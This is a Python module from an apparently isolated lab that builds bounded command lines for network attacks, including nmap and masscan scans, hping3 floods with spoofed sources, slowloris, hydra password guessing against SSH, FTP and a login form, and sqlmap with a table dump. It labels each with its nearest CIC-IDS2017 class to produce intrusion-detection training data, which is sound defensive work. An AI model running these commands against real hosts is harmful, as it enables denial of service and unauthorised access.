"""The lab's attacks: each a real tool with a bounded command line, a family and its nearest CIC-IDS2017 label.

:data:`ATTACKS` maps a name (``nmap-syn``, ``hping3-syn-spoofed``, ``hydra-ssh``...) to an :class:`Attack`:
what it is (family, CIC-IDS2017 class, tool, the service it aims at) and how to build its command line from
an :class:`AttackContext` (attacker, victim, the run's :class:`~lab.episodes.ServiceMap`, a scale, a seeded
random generator and a work directory). Every command is bounded in packets (a count, a port list, a word
list, a number of connections) *and* in seconds (a duration option, and :meth:`Attack.timeout_s` for the
process). ``scale`` multiplies counts and durations: 1.0 makes an episode of about 20-60 s, 0.1 one of a few
seconds for CI. Passwords never appear on a command line: guessing tools read word lists that
:meth:`Attack.files` writes into the work directory. :mod:`lab.attacks` runs them.

Example
-------
>>> from lab.episodes import Credentials, Service, ServiceMap
>>> from lab.topo_plan import TopologySpec, plan_hosts
>>> _, s1, a1 = plan_hosts(TopologySpec(prefix="twakdoc"))[1:]
>>> services = ServiceMap({Service.HTTP: (s1, 80)}, Credentials("u", "pw"), Credentials("admin", "pw2"))
>>> ctx = AttackContext(a1, s1, services, 0.1, random.Random(1), Path("/tmp/w"))
>>> " ".join(ATTACKS["hping3-syn"].argv(ctx))
'hping3 -S -q -p 80 -c 1500 -i u2000 10.213.3.2'
>>> ATTACKS["hping3-syn-spoofed"].spoofed, ATTACKS["hydra-ssh"].cic_class
(True, 'SSH-Patator')
"""

from __future__ import annotations

import random
import string
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from types import MappingProxyType

from lab.episodes import DEFAULT_PORTS, Family, Service, ServiceMap
from lab.topo_plan import Host, LabError

MIN_SCALE, MAX_SCALE = 0.01, 10.0
FLOOD_PPS = 500  # hping3's rate: a flood that a 2-core CI machine's capture keeps up with
SCAN_PPS = 50  # nmap's --max-rate: 1000 ports in 20 s, as a careful scanner would
UDP_PORTS = "53,67,69,123,137,161,500,514,1900,5353"  # nmap -sU: the usual suspects, few enough to finish
WEB_FORM = "/login:username=^USER^&password=^PASS^:F=invalid login"  # the lab app's form and failure text


@dataclass(frozen=True)
class AttackContext:
    """What an attack's command line is built from (one object: the builders stay at one parameter).

    Parameters
    ----------
    attacker, victim
        The acting host and the host acted on (for the bot: the infected client and the C2 host).
    services
        Where the run's services listen, and its throwaway accounts.
    scale
        Multiplies counts and durations (1.0: an episode of about 20-60 s).
    rng
        Seeded: one seed gives one command line and one word list.
    workdir
        Where word lists, scripts and tool output go.
    router_mac, attacker_mac
        MAC addresses of the attacker's link (masscan's own TCP stack needs them in a namespace).
    """

    attacker: Host
    victim: Host
    services: ServiceMap
    scale: float
    rng: random.Random
    workdir: Path
    router_mac: str = "02:00:00:00:00:01"
    attacker_mac: str = "02:00:00:00:00:02"

    def __post_init__(self) -> None:
        if not MIN_SCALE <= self.scale <= MAX_SCALE:
            raise LabError(f"attack scale must be in {MIN_SCALE}..{MAX_SCALE}, got {self.scale}")

    def n(self, base: int, low: int) -> int:
        """A count: ``base`` at scale 1, never below ``low``."""
        return max(low, round(base * self.scale))

    def secs(self, base: float, low: int = 1) -> int:
        """A duration in whole seconds: ``base`` at scale 1, never below ``low``."""
        return max(low, round(base * self.scale))

    def port(self, service: Service) -> int:
        """The service's port in this run, or its default port when it does not run (a flood still floods)."""
        return self.services.at[service][1] if service in self.services.at else DEFAULT_PORTS[service]

    def url(self, service: Service, path: str = "/", scheme: str = "http") -> str:
        return f"{scheme}://{self.victim.ipv4}:{self.port(service)}{path}"


Builder = Callable[[AttackContext], list[str]]
FileMaker = Callable[[AttackContext], dict[str, str]]


def _no_files(ctx: AttackContext) -> dict[str, str]:
    return {}


@dataclass(frozen=True)
class Attack:
    """One attack of the catalogue.

    Parameters
    ----------
    name
        Its key in :data:`ATTACKS`.
    family, cic_class
        The lab's :class:`~lab.episodes.Family` and the nearest CIC-IDS2017 label ("" when none fits).
    tool
        The program that makes the traffic (a key of :data:`TOOLS`).
    service
        The service it aims at (its host is the victim); None for a whole host (scans, ICMP).
    argv
        Builds the command line from an :class:`AttackContext`.
    seconds, floor_s
        Its expected duration at scale 1, and the least any scale gets; :meth:`timeout_s` derives from both.
    files
        Files (name in the work directory -> text) the command reads: word lists, scripts, configuration.
    spoofed
        Its packets carry random source addresses (hping3 ``--rand-source``).
    ok_codes
        Exit statuses of a normal run (hping3 exits 1 when nothing answered; ``timeout`` 124 when it stopped it).
    bot
        The attacker is an infected client and the victim the host of :attr:`Service.C2`.
    """

    name: str
    family: Family
    cic_class: str
    tool: str
    service: Service | None
    argv: Builder = field(repr=False)
    seconds: float
    floor_s: float = 3.0
    files: FileMaker = field(default=_no_files, repr=False)
    spoofed: bool = False
    ok_codes: tuple[int, ...] = (0,)
    bot: bool = False

    def timeout_s(self, scale: float) -> float:
        """The wall-clock bound of one run: twice the expected duration, plus 20 s for start and wind-down."""
        return 2 * max(self.seconds * scale, self.floor_s) + 20


# -- scans -----------------------------------------------------------------------------------------
def _nmap(ctx: AttackContext, mode: list[str], ports: str, packets: int, v6: bool = False) -> list[str]:
    """nmap without DNS or ping, one retry, at :data:`SCAN_PPS`, stopped at twice its expected time."""
    host_timeout = 2 * packets // SCAN_PPS + 10
    return ["nmap", *(["-6"] if v6 else []), *mode, "-n", "-Pn", "--max-retries", "1", "--max-rate",
            str(SCAN_PPS), "--host-timeout", f"{host_timeout}s", "-p", ports,
            ctx.victim.ipv6 if v6 else ctx.victim.ipv4]  # fmt: skip


def _victim_tcp_ports(ctx: AttackContext) -> list[int]:
    """TCP ports of the services on the victim (NTP is UDP only), or the common ones when none runs there."""
    found = sorted({p for s, (h, p) in ctx.services.at.items() if h == ctx.victim and s is not Service.NTP})
    return found or [22, 80, 443, 8080]


def _port_scan(mode: str, v6: bool = False) -> Builder:
    def build(ctx: AttackContext) -> list[str]:
        ports = ctx.n(1000, 20)
        return _nmap(ctx, [mode], f"1-{ports}", ports, v6)

    return build


def _version_scan(ctx: AttackContext) -> list[str]:
    ports = _victim_tcp_ports(ctx)
    # -sV waits up to ~6 s for a banner on each probe, twice inside TLS: about 20 s for an HTTPS port
    return _nmap(ctx, ["-sV", "--version-intensity", "2"], ",".join(map(str, ports)), 25 * SCAN_PPS)


def _udp_scan(ctx: AttackContext) -> list[str]:
    return _nmap(ctx, ["-sU"], UDP_PORTS, 20 * SCAN_PPS)  # Linux rate-limits port-unreachables: allow ~20 s


def _os_scan(ctx: AttackContext) -> list[str]:
    """-O needs an open and a closed port: the victim's services and a low range."""
    low = ctx.n(100, 10)
    ports = f"1-{low}," + ",".join(str(p) for p in _victim_tcp_ports(ctx) if p > low)
    return _nmap(ctx, ["-O", "--osscan-limit", "--max-os-tries", "1"], ports.rstrip(","), low + 400)


def _masscan(ctx: AttackContext) -> list[str]:
    """masscan sends with its own TCP stack, so it is told its interface, addresses and the router's MAC.

    Its receive thread blocks on a quiet link once the scan is done, so it never exits by itself
    (robertdavidgraham/masscan#144): ``timeout`` interrupts it after its sending time (it starts slowly: half
    as long again) and ``--wait``, and kills it 3 s later, as it keeps waiting after the interrupt too.
    """
    ports, rate = ctx.n(2000, 50), 100
    return ["timeout", "--signal", "INT", "--kill-after", "3", str(ports * 3 // (2 * rate) + 5), "masscan",
            ctx.victim.ipv4, f"-p1-{ports}", "--rate", str(rate), "--wait", "1", "--adapter", ctx.attacker.iface,
            "--adapter-ip", ctx.attacker.ipv4, "--adapter-mac", ctx.attacker_mac, "--router-mac",
            ctx.router_mac]  # fmt: skip


# -- floods and slow attacks -----------------------------------------------------------------------
STOPPED = (0, 124)  # timeout(1) exits 124 when it interrupted the tool, -9 when it had to kill it (and itself)
HPING_OK = (0, 1)  # 1: no reply at all, as for spoofed sources, ICMP to a host that rate-limits, UDP to a closed port


def _hping(mode: list[str], service: Service | None, spoof: bool = False) -> Builder:
    def build(ctx: AttackContext) -> list[str]:
        port = ["-p", str(ctx.port(service))] if service else []
        count = ctx.n(30 * FLOOD_PPS, 100)
        return ["hping3", *mode, "-q", *port, "-c", str(count), "-i", f"u{1_000_000 // FLOOD_PPS}",
                *(["--rand-source"] if spoof else []), ctx.victim.ipv4]  # fmt: skip

    return build


def _slowloris(ctx: AttackContext) -> list[str]:
    """slowloris runs until interrupted: ``timeout`` sends it SIGINT, on which it stops as when a user does."""
    return ["timeout", "--signal", "INT", "--kill-after", "5", str(ctx.secs(30, 3)), sys.executable, "-m",
            "slowloris", ctx.victim.ipv4, "-p", str(ctx.port(Service.HTTP)), "-s", str(ctx.n(150, 10)),
            "--sleeptime", str(ctx.secs(15))]  # fmt: skip


def _slowhttp(mode: list[str], service: Service = Service.HTTP, path: str = "/") -> Builder:
    def build(ctx: AttackContext) -> list[str]:
        return ["slowhttptest", *mode, "-c", str(ctx.n(200, 20)), "-r", "50", "-i", str(ctx.secs(10)),
                "-l", str(ctx.secs(30, 3)), "-p", "3", "-u", ctx.url(service, path)]  # fmt: skip

    return build


WRK_DELAY_MS = 20  # per connection between requests: 20 connections make 1000 requests/s, not as many as the CPU


def _wrk_script(ctx: AttackContext) -> dict[str, str]:
    return {"wrk-pace.lua": f"function delay()\n  return {WRK_DELAY_MS}\nend\n"}


def _wrk(ctx: AttackContext) -> list[str]:
    return ["wrk", "-t", "2", "-c", str(ctx.n(20, 4)), "-d", f"{ctx.secs(30, 2)}s", "--timeout", "2s", "-s",
            str(ctx.workdir / "wrk-pace.lua"), ctx.url(Service.HTTP)]  # fmt: skip


def _ab(ctx: AttackContext) -> list[str]:
    # -t before -n: -t alone implies -n 50000
    return ["ab", "-t", str(ctx.secs(30, 2)), "-n", str(ctx.n(10_000, 200)), "-c", str(ctx.n(20, 4)), "-s", "5",
            ctx.url(Service.HTTP)]  # fmt: skip


def _siege_rc(ctx: AttackContext) -> dict[str, str]:
    """siege's own settings, so that neither ~/.siege nor a log under /var/log is used."""
    return {"siegerc": "logging = false\nprotocol = HTTP/1.1\nconnection = close\nshow-logfile = false\n"}


def _siege(ctx: AttackContext) -> list[str]:
    # -d 0.5: each user waits 0..0.5 s between requests, so -r 100 lasts ~25 s
    return ["siege", "-R", str(ctx.workdir / "siegerc"), "-q", "-c", str(ctx.n(25, 4)), "-r", str(ctx.n(100, 8)),
            "-d", "0.5", ctx.url(Service.HTTP)]  # fmt: skip


# -- password guessing -----------------------------------------------------------------------------
def word_list(rng: random.Random, count: int, secret: str) -> list[str]:
    """``count`` random words with ``secret`` at a random place in the last quarter (some guesses succeed).

    >>> words = word_list(random.Random(3), 40, "s3cret")
    >>> len(words), words.index("s3cret") >= 30, len(set(words))
    (40, True, 40)
    """
    alphabet = string.ascii_letters + string.digits
    words: set[str] = set()
    while len(words) < count - 1:
        words.add("".join(rng.choices(alphabet, k=rng.randint(6, 12))))
        words.discard(secret)
    out = sorted(words)  # sorted first: a set's order changes with the interpreter's string hashing
    rng.shuffle(out)
    out.insert(rng.randint(count - max(1, count // 4), count - 1), secret)
    return out


def _words_for(login: str, base: int, low: int) -> FileMaker:
    def make(ctx: AttackContext) -> dict[str, str]:
        creds = ctx.services.app_login if login == "app" else ctx.services.login
        return {f"words-{login}.txt": "\n".join(word_list(ctx.rng, ctx.n(base, low), creds.password)) + "\n"}

    return make


def _hydra(login: str, tasks: int, target: Callable[[AttackContext], list[str]]) -> Builder:
    """hydra reading passwords from the word list; -I: no restore-file pause, -w: 5 s per answer."""

    def build(ctx: AttackContext) -> list[str]:
        user = ctx.services.app_login.user if login == "app" else ctx.services.login.user
        return ["hydra", "-l", user, "-P", str(ctx.workdir / f"words-{login}.txt"), "-t", str(tasks), "-w", "5",
                "-I", *target(ctx)]  # fmt: skip

    return build


def _hydra_target(service: Service, module: str) -> Callable[[AttackContext], list[str]]:
    return lambda ctx: ["-s", str(ctx.port(service)), f"{module}://{ctx.victim.ipv4}"]


def _form_target(ctx: AttackContext) -> list[str]:
    return ["-s", str(ctx.port(Service.APP)), ctx.victim.ipv4, "http-post-form", WEB_FORM]


def _sqlmap(ctx: AttackContext) -> list[str]:
    """sqlmap at level 2 (more boundaries than level 1, and the Cookie header), risk 1, output in workdir.

    At small scale no time-based or stacked tests (they sleep) and no dump: about 2 s; at scale 1 about 12 s.
    """
    thorough = ctx.scale >= 0.5
    return ["sqlmap", "-u", ctx.url(Service.APP, "/search?q=lamp"), "-p", "q", "--batch", "--flush-session",
            "--level", "2", "--risk", "1", "--threads", "2", "--timeout", "5", "--retries", "0",
            "--technique", "BEUST" if thorough else "BU", "--time-sec", "1", "--tables",
            *(["--dump", "-T", "users"] if thorough else []), "--disable-coloring", "--output-dir",
            str(ctx.workdir / "sqlmap")]  # fmt: skip


# -- the bot ---------------------------------------------------------------------------------------
def _beacon(ctx: AttackContext) -> list[str]:
    """8 beacons (every 5 s ± 30 % at scale 1) to the C2 server on the victim (the attacker's host)."""
    period = max(0.5, round(5.0 * ctx.scale, 1))
    return [sys.executable, "-m", "lab.beacon", "--url", ctx.url(Service.C2, "/", "https"), "--period",
            str(period), "--jitter", "0.3", "--count", "8", "--timeout", "3", "--seed",
            str(ctx.rng.randrange(2**31))]  # fmt: skip


_S, _D, _B, _W = Family.SCAN, Family.DOS, Family.BRUTEFORCE, Family.WEBATTACK
_HTTP, _SYN, _UDP = Service.HTTP, ["-S"], ["--udp", "-d", "64"]
# fmt: off
_CATALOGUE = (
    Attack("nmap-syn", _S, "Portscan", "nmap", None, _port_scan("-sS"), 20),
    Attack("nmap-connect", _S, "Portscan", "nmap", None, _port_scan("-sT"), 20),
    Attack("nmap-syn6", _S, "Portscan", "nmap", None, _port_scan("-sS", v6=True), 20),
    Attack("nmap-connect6", _S, "Portscan", "nmap", None, _port_scan("-sT", v6=True), 20),
    Attack("nmap-version", _S, "Portscan", "nmap", None, _version_scan, 30, floor_s=30),
    Attack("nmap-udp", _S, "Portscan", "nmap", None, _udp_scan, 20, floor_s=20),
    Attack("nmap-os", _S, "Portscan", "nmap", None, _os_scan, 20, floor_s=15),
    Attack("masscan", _S, "Portscan", "masscan", None, _masscan, 35, floor_s=10, ok_codes=(*STOPPED, -9)),
    # CIC-IDS2017's only flood class is DDoS (LOIC's HTTP, TCP and UDP floods); it has no ICMP flood.
    Attack("hping3-syn", _D, "DDoS", "hping3", _HTTP, _hping(_SYN, _HTTP), 30, ok_codes=HPING_OK),
    Attack("hping3-syn-spoofed", _D, "DDoS", "hping3", _HTTP, _hping(_SYN, _HTTP, True), 30, ok_codes=HPING_OK,
           spoofed=True),
    Attack("hping3-udp", _D, "DDoS", "hping3", Service.DNS, _hping(_UDP, Service.DNS), 30, ok_codes=HPING_OK),
    Attack("hping3-udp-spoofed", _D, "DDoS", "hping3", Service.DNS, _hping(_UDP, Service.DNS, True), 30,
           ok_codes=HPING_OK, spoofed=True),
    Attack("hping3-icmp", _D, "", "hping3", None, _hping(["--icmp"], None), 30, ok_codes=HPING_OK),
    Attack("slowloris", _D, "DoS Slowloris", "slowloris", _HTTP, _slowloris, 30, ok_codes=STOPPED),
    Attack("slowhttptest-headers", _D, "DoS Slowhttptest", "slowhttptest", _HTTP, _slowhttp(["-H"]), 30),
    # A slow body needs a handler that reads it: nginx answers a POST to a page at once (405); the app's form reads.
    Attack("slowhttptest-body", _D, "DoS Slowhttptest", "slowhttptest", Service.APP,
           _slowhttp(["-B", "-s", "8192"], Service.APP, "/login"), 30),
    Attack("slowhttptest-range", _D, "DoS Slowhttptest", "slowhttptest", _HTTP,
           _slowhttp(["-R", "-a", "10", "-b", "3000"]), 30),
    # Keep-alive connections with varied timing look like GoldenEye; a new connection per request like Hulk.
    Attack("wrk-flood", _D, "DoS GoldenEye", "wrk", _HTTP, _wrk, 30, files=_wrk_script),
    Attack("ab-flood", _D, "DoS Hulk", "ab", _HTTP, _ab, 10),
    Attack("siege-flood", _D, "DoS Hulk", "siege", _HTTP, _siege, 25, files=_siege_rc),
    Attack("hydra-ssh", _B, "SSH-Patator", "hydra", Service.SSH, _hydra("ssh", 4, _hydra_target(Service.SSH, "ssh")),
           45, floor_s=10, files=_words_for("ssh", 200, 20)),
    Attack("hydra-ftp", _B, "FTP-Patator", "hydra", Service.FTP, _hydra("ftp", 4, _hydra_target(Service.FTP, "ftp")),
           50, floor_s=10, files=_words_for("ftp", 60, 12)),
    Attack("hydra-http-form", _W, "Web Attack - Brute Force", "hydra", Service.APP, _hydra("app", 8, _form_target),
           30, floor_s=10, files=_words_for("app", 600, 30)),
    Attack("sqlmap", _W, "Web Attack - SQL Injection", "sqlmap", Service.APP, _sqlmap, 40, floor_s=30),
    Attack("beacon", Family.BOTNET, "Botnet", "beacon", Service.C2, _beacon, 40, bot=True),
)
# fmt: on
ATTACKS: Mapping[str, Attack] = MappingProxyType({a.name: a for a in _CATALOGUE})
"""Every attack of the lab by name."""

TOOLS: Mapping[str, str] = MappingProxyType({
    "nmap": "nmap", "masscan": "masscan", "hping3": "hping3", "slowloris": "pypi:slowloris",
    "slowhttptest": "slowhttptest", "wrk": "wrk", "ab": "apache2-utils", "siege": "siege", "hydra": "hydra",
    "sqlmap": "sqlmap", "beacon": "python3 (lab.beacon)",
})  # fmt: skip
"""The package of each tool (a Debian package unless it says otherwise), for the corpus manifest."""
